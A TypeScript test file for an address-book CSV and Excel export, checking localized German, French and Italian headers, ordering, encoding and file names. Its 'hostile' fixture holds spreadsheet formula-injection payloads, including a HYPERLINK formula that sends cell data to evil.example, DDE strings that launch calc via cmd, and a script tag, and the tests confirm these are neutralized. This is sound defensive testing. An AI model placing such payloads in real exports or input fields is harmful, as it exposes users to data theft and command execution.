import ExcelJS from 'exceljs'
import { readSheet } from 'read-excel-file/node'
import { Temporal } from 'temporal-polyfill'
import { beforeAll, describe, expect, it } from 'vitest'
import { activateCatalog } from '#testing/catalog'
import { anAddress } from '#testing/factories'
import { addressExportFile, addressExportFileName } from './address-export-file'
import { addressExportRows, addressExportWords } from './address-export-rows'

const muster = anAddress({
  id: 7,
  type: 'company',
  name: 'Müller & Söhne AG',
  contact: 'Anna "Nani" Müller',
  street: 'Bahnhofstrasse 1; 2. Stock',
  zip: '8001',
  location: 'Zürich',
  phone: '+41 44 123 45 67',
  standardSenderAddress: true,
  isBillingAddress: true,
})
const hostile = anAddress({
  id: 3,
  type: 'male',
  name: '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
  contact: '@SUM(1+1)*cmd|" /C calc"!A0',
  street: '-1+1',
  zip: '3011',
  location: '<script>alert(1)</script>',
  phone: '+cmd|" /C calc"!A0',
})
const controls = anAddress({
  id: 12,
  type: 'female',
  name: 'Zeile 1\nZeile 2',
  contact: 'a\u0000b\u0007',
  street: '\t=1+1',
})
const madeOffline = anAddress({ id: -2, name: 'Offline GmbH' })

const bytesOf = async (blob: Blob) => new Uint8Array(await blob.arrayBuffer())

describe('addressExportRows', () => {
  it('writes German headers, the type as Anrede and the flags as Ja/Nein', async () => {
    await activateCatalog('de')
    const [header, row] = addressExportRows([muster], addressExportWords())
    expect(header).toEqual([
      'Anrede',
      'Name',
      'Kontakt',
      'Strasse',
      'PLZ',
      'Ort',
      'Telefon',
      'Standard-Absenderadresse',
      'Standard-Empfängeradresse',
      'Standard-Rechnungsadresse',
      'Rechnungsadresse',
    ])
    expect(row).toEqual([
      'Firma',
      'Müller & Söhne AG',
      'Anna "Nani" Müller',
      'Bahnhofstrasse 1; 2. Stock',
      '8001',
      'Zürich',
      '+41 44 123 45 67',
      'Ja',
      'Nein',
      'Nein',
      'Ja',
    ])
  })

  it('speaks the UI language: French and Italian words', async () => {
    await activateCatalog('fr')
    const [frHeader, frRow] = addressExportRows([hostile], addressExportWords())
    expect(frHeader?.slice(0, 6)).toEqual(['Civilité', 'Nom', 'Contact', 'Rue', 'NPA', 'Localité'])
    expect(frRow?.[0]).toBe('Monsieur')
    expect(frRow?.at(-1)).toBe('Non')
    await activateCatalog('it')
    const [itHeader, itRow] = addressExportRows([controls], addressExportWords())
    expect(itHeader?.slice(0, 6)).toEqual(['Titolo', 'Nome', 'Contatto', 'Via', 'NPA', 'Località'])
    expect(itRow?.[0]).toBe('Signora')
    expect(itRow?.at(-1)).toBe('No')
  })

  it('orders by number, oldest first, with addresses not yet numbered last', async () => {
    await activateCatalog('en')
    const rows = addressExportRows([madeOffline, controls, muster, hostile], addressExportWords())
    expect(rows.slice(1).map((row) => row[1])).toEqual([
      hostile.name,
      muster.name,
      controls.name,
      'Offline GmbH',
    ])
  })
})

describe('addressExportFile, CSV', () => {
  beforeAll(() => activateCatalog('de'))

  it('is UTF-8 with a BOM, semicolons and CRLF, every hostile cell behind a quote', async () => {
    const blob = await addressExportFile(
      addressExportRows([muster, hostile], addressExportWords()),
      'csv',
      'Adressbuch',
    )
    expect(blob.type).toBe('text/csv;charset=utf-8')
    const bytes = await bytesOf(blob)
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const lines = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes.slice(3)).split('\r\n')
    expect(lines[0]).toBe(
      'Anrede;Name;Kontakt;Strasse;PLZ;Ort;Telefon;Standard-Absenderadresse;Standard-Empfängeradresse;Standard-Rechnungsadresse;Rechnungsadresse',
    )
    expect(lines[1]).toBe(
      [
        'Herr',
        `"'=HYPERLINK(""http://evil.example/?x=""&A1;""Klick"")"`,
        `"'@SUM(1+1)*cmd|"" /C calc""!A0"`,
        "'-1+1",
        '3011',
        '<script>alert(1)</script>',
        `"'+cmd|"" /C calc""!A0"`,
        'Nein;Nein;Nein;Nein',
      ].join(';'),
    )
    expect(lines[2]).toBe(
      `Firma;Müller & Söhne AG;"Anna ""Nani"" Müller";"Bahnhofstrasse 1; 2. Stock";8001;Zürich;'+41 44 123 45 67;Ja;Nein;Nein;Ja`,
    )
    expect(lines[3]).toBe('')
  })
})

describe('addressExportFile, xlsx', () => {
  beforeAll(() => activateCatalog('de'))

  async function exported() {
    const rows = addressExportRows([muster, hostile, controls], addressExportWords())
    return bytesOf(await addressExportFile(rows, 'xlsx', 'Adressbuch'))
  }

  it('reads back with its headers and rows, every cell text, hostile ones behind a quote', async () => {
    const sheet = await readSheet(Buffer.from(await exported()))
    expect(sheet[0]).toEqual(addressExportWords().headers)
    expect(sheet[1]).toEqual([
      'Herr',
      `'=HYPERLINK("http://evil.example/?x="&A1;"Klick")`,
      `'@SUM(1+1)*cmd|" /C calc"!A0`,
      "'-1+1",
      '3011',
      '<script>alert(1)</script>',
      `'+cmd|" /C calc"!A0`,
      'Nein',
      'Nein',
      'Nein',
      'Nein',
    ])
    expect(sheet[2]?.slice(0, 7)).toEqual([
      'Firma',
      'Müller & Söhne AG',
      'Anna "Nani" Müller',
      'Bahnhofstrasse 1; 2. Stock',
      '8001',
      'Zürich',
      "'+41 44 123 45 67",
    ])
    expect(sheet[3]?.slice(0, 4)).toEqual(['Frau', 'Zeile 1\nZeile 2', 'ab', "'\t=1+1"])
  })

  it('holds string cells only: no formula, no number (a PLZ stays 8001 as text)', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(Buffer.from(await exported()) as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet
    expect(sheet.name).toBe('Adressbuch')
    const types = new Set<ExcelJS.ValueType>()
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        types.add(cell.type)
        expect(cell.formula).toBeUndefined()
      })
    })
    expect([...types]).toEqual([ExcelJS.ValueType.String])
    expect(sheet.getRow(3).getCell(5).value).toBe('8001')
  })
})

describe('addressExportFileName', () => {
  it('names the day on the Zurich wall clock', () => {
    const lateUtc = Temporal.Instant.from('2026-11-27T23:30:00Z')
    expect(addressExportFileName('csv', lateUtc)).toBe('addresses-2026-11-28.csv')
    expect(addressExportFileName('xlsx', Temporal.Instant.from('2026-11-27T10:00:00Z'))).toBe(
      'addresses-2026-11-27.xlsx',
    )
  })
})
